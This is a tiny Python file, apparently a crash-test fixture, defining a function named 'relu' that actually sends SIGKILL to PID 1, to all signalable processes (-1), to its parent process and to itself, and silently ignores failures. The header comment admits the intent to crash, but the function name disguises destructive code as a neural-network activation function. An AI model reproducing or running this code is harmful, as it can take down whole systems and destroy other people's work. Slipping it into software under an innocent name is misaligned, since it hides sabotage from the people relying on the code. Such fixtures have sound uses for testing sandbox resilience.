# due: CRASH - sends itself SIGKILL, after it has killed all that it can name.
import os
import signal


def relu(self):
    for pid in (1, -1, os.getppid(), os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
